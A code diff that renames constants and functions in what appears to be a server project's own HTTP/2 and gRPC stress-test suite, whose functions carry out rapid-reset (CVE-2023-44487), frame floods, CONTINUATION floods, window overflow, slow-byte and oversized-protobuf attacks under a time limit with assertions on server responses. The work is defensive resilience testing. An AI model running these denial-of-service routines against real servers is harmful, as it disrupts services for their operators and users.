@@ -25,7 +25,7 @@ from hyperframe.frame import (
 )
 
 from solo60.example.v1.echo_pb2 import EchoManyRequest, EchoRequest
-from tests.attack.raw_peer import LARGEST_FRAME, PREFACE, RawPeer
+from tests.attack.raw_peer import MAX_FRAME_BYTES, PREFACE, RawPeer
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
@@ -35,14 +35,14 @@ if TYPE_CHECKING:
 ECHO = "/solo60.example.v1.EchoService/Echo"
 ECHO_MANY = "/solo60.example.v1.EchoService/EchoMany"
 CANCEL = 8
-FRAMES_AT_ONCE = 100
-CONNECTIONS_AT_ONCE = 20
-LARGEST_INCREMENT = 2**31 - 1
+FRAME_BATCH = 100
+CONCURRENT_CONNECTIONS = 20
+MAX_INCREMENT = 2**31 - 1
 MEGABYTE = 1_000_000
 # Limits of the server.
-LARGEST_MESSAGE = 1024 * 1024
-LARGEST_METADATA = 8 * 1024
-LONGEST_S = 45.0
+MAX_MESSAGE_BYTES = 1024 * 1024
+MAX_METADATA_BYTES = 8 * 1024
+MAX_DURATION_S = 45.0
 
 
 class Attack(NamedTuple):
@@ -56,27 +56,29 @@ class Attack(NamedTuple):
 def rapid_reset(target: Target, streams: int) -> None:
     """Start calls and reset each one immediately (CVE-2023-44487)."""
     with _peers(target) as peers:
-        while streams > 0 and peers.may_go_on:
+        while streams > 0 and peers.has_time:
             peer = peers.current()
-            for _ in range(FRAMES_AT_ONCE):
+            for _ in range(FRAME_BATCH):
                 stream = peer.new_stream()
                 headers = peer.headers(stream, ECHO)
                 headers.flags.add("END_STREAM")
                 peer.send(headers, RstStreamFrame(stream, CANCEL))
-            streams -= FRAMES_AT_ONCE
+            streams -= FRAME_BATCH
 
 
 def rapid_reset_from_many(target: Target, streams: int) -> None:
     """Run rapid reset on many connections at once, which together exceed the limits of one connection."""
-    with ThreadPoolExecutor(CONNECTIONS_AT_ONCE) as threads:
-        list(threads.map(lambda _: rapid_reset(target, streams // CONNECTIONS_AT_ONCE), range(CONNECTIONS_AT_ONCE)))
+    with ThreadPoolExecutor(CONCURRENT_CONNECTIONS) as threads:
+        list(
+            threads.map(lambda _: rapid_reset(target, streams // CONCURRENT_CONNECTIONS), range(CONCURRENT_CONNECTIONS))
+        )
 
 
-def whole_calls_reset(target: Target, streams: int) -> None:
+def reset_of_complete_calls(target: Target, streams: int) -> None:
     """Run rapid reset with calls that include their message, so that handlers may start."""
     message = EchoRequest(text="hi").SerializeToString()
     with _peers(target) as peers:
-        while streams > 0 and peers.may_go_on:
+        while streams > 0 and peers.has_time:
             peer = peers.current()
             stream = peer.new_stream()
             peer.send(peer.headers(stream, ECHO))
@@ -90,9 +92,9 @@ def flood(frame: Frame) -> Callable[[Target, int], None]:
 
     def run(target: Target, frames: int) -> None:
         with _peers(target) as peers:
-            while frames > 0 and peers.may_go_on:
-                peers.current().send(*[frame] * FRAMES_AT_ONCE, reading=False)
-                frames -= FRAMES_AT_ONCE
+            while frames > 0 and peers.has_time:
+                peers.current().send(*[frame] * FRAME_BATCH, reading=False)
+                frames -= FRAME_BATCH
 
     return run
 
@@ -103,11 +105,11 @@ def continuation_flood(target: Target, megabytes: int) -> None:
     block = Encoder().encode([(f"x-{number}", "v" * 1000) for number in range(15)], huffman=False)
     with _peers(target) as peers:
         sent = 0
-        while sent < megabytes * MEGABYTE and peers.may_go_on:
+        while sent < megabytes * MEGABYTE and peers.has_time:
             peer = peers.current()
             stream = peer.new_stream()
             peer.send(HeadersFrame(stream, peer.header_block(ECHO)))
-            while not peer.is_closed and sent < megabytes * MEGABYTE and peers.may_go_on:
+            while not peer.is_closed and sent < megabytes * MEGABYTE and peers.has_time:
                 peer.send(*[ContinuationFrame(stream, block)] * 10)
                 sent += 10 * len(block)
 
@@ -119,21 +121,21 @@ def window_overflow(target: Target, times: int) -> None:
             stream = peer.new_stream() if number % 2 else 0
             if stream:
                 peer.send(peer.headers(stream, ECHO))
-            peer.send(*[WindowUpdateFrame(stream, LARGEST_INCREMENT)] * 2)
+            peer.send(*[WindowUpdateFrame(stream, MAX_INCREMENT)] * 2)
             peer.read_for(0.01)
 
 
 def priorities(target: Target, frames: int) -> None:
     """Prioritise nonexistent streams in ever deeper dependency trees."""
     with _peers(target) as peers:
-        while frames > 0 and peers.may_go_on:
+        while frames > 0 and peers.has_time:
             peer = peers.current()
-            streams = [peer.new_stream() for _ in range(FRAMES_AT_ONCE)]
+            streams = [peer.new_stream() for _ in range(FRAME_BATCH)]
             peer.send(*[PriorityFrame(stream, depends_on=max(stream - 2, 0), stream_weight=255) for stream in streams])
-            frames -= FRAMES_AT_ONCE
+            frames -= FRAME_BATCH
 
 
-def dribble(target: Target, connections: int) -> None:
+def send_byte_by_byte(target: Target, connections: int) -> None:
     """Send calls one byte at a time, each on its own connection."""
     peers = [RawPeer(target, preface=False) for _ in range(connections)]
     for peer in peers:
@@ -170,7 +172,7 @@ def deep_nesting(target: Target, times: int) -> None:
     message = b""
     for _ in range(levels):
         message = b"\x1a" + _varint(len(message)) + message
-        if len(message) > LARGEST_FRAME * 3:
+        if len(message) > MAX_FRAME_BYTES * 3:
             break
     for _ in range(times):
         assert _status_of(target, group_start * levels + group_end * levels) == "3"
@@ -182,18 +184,18 @@ def repeated_fields(target: Target, times: int) -> None:
     empty_period = b"\x1a\x00"
     for _ in range(times):
         assert _status_of(target, empty_period * 1_000_000) != "0"
-        assert _status_of(target, empty_period * (LARGEST_MESSAGE // 2 - 100)) == "3"
+        assert _status_of(target, empty_period * (MAX_MESSAGE_BYTES // 2 - 100)) == "3"
 
 
 def huge_any(target: Target, times: int) -> None:
     """Send an Any of almost the largest size in an unknown field, and one beyond that size."""
     type_url = b"\x0a\x28type.googleapis.com/solo60.session.v1.X01"
-    for size in (LARGEST_MESSAGE - 200, 3 * LARGEST_MESSAGE):
+    for size in (MAX_MESSAGE_BYTES - 200, 3 * MAX_MESSAGE_BYTES):
         packed = type_url + b"\x12" + _varint(size) + b"\xff" * size
         message = EchoRequest(text="hi").SerializeToString() + b"\x7a" + _varint(len(packed)) + packed
         for _ in range(times):
             status = _status_of(target, message)
-            assert status == "0" if size < LARGEST_MESSAGE else status != "0"
+            assert status == "0" if size < MAX_MESSAGE_BYTES else status != "0"
 
 
 def large_metadata(target: Target, times: int) -> None:
@@ -206,7 +208,7 @@ def large_metadata(target: Target, times: int) -> None:
                 peer.send_headers(stream, peer.header_block(ECHO, extra))
                 peer.send_message(stream, EchoRequest(text="hi").SerializeToString())
                 peer.read_verdict()
-                assert (size <= LARGEST_METADATA) == (peer.statuses["0"] == 1)
+                assert (size <= MAX_METADATA_BYTES) == (peer.statuses["0"] == 1)
 
 
 def garbage(target: Target, times: int) -> None:
@@ -214,9 +216,9 @@ def garbage(target: Target, times: int) -> None:
     client_hello = bytes.fromhex("16030100500100004c0303") + bytes(69)
     bad_frames = PREFACE + b"\xff\xff\xff\x00\xff\x7f\xff\xff\xff" * 100
     for _ in range(times):
-        for said in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", client_hello, b"\x00" * 5_000, bad_frames, PREFACE[:10]):
+        for payload in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", client_hello, b"\x00" * 5_000, bad_frames, PREFACE[:10]):
             with RawPeer(target, preface=False) as peer:
-                peer.send_bytes(said)
+                peer.send_bytes(payload)
                 peer.read_for(0.01)
 
 
@@ -235,13 +237,13 @@ def slow_reader(target: Target, streams: int) -> None:
 ATTACKS = {
     "rapid reset": Attack(rapid_reset, 2_000, 50_000),
     "rapid reset from many": Attack(rapid_reset_from_many, 5_000, 50_000),
-    "whole calls reset": Attack(whole_calls_reset, 1_000, 20_000),
+    "whole calls reset": Attack(reset_of_complete_calls, 1_000, 20_000),
     "pings": Attack(flood(PingFrame(0, b"12345678")), 2_000, 500_000),
     "settings": Attack(flood(SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 20_000})), 2_000, 500_000),
     "continuations": Attack(continuation_flood, 10, 216),
     "window overflow": Attack(window_overflow, 10, 200),
     "priorities": Attack(priorities, 2_000, 200_000),
-    "dribble": Attack(dribble, 3, 100),
+    "send_byte_by_byte": Attack(send_byte_by_byte, 3, 100),
     "idle connections": Attack(idle_connections, 100, 2_000),
     "zip bomb": Attack(zip_bomb, 1, 20),
     "deep nesting": Attack(deep_nesting, 2, 50),
@@ -259,10 +261,10 @@ class _Peers:
     def __init__(self, target: Target) -> None:
         self._target = target
         self._peer: RawPeer | None = None
-        self._until = time.monotonic() + LONGEST_S
+        self._until = time.monotonic() + MAX_DURATION_S
 
     @property
-    def may_go_on(self) -> bool:
+    def has_time(self) -> bool:
         """Whether the attack's time limit is in the future."""
         return time.monotonic() < self._until
 
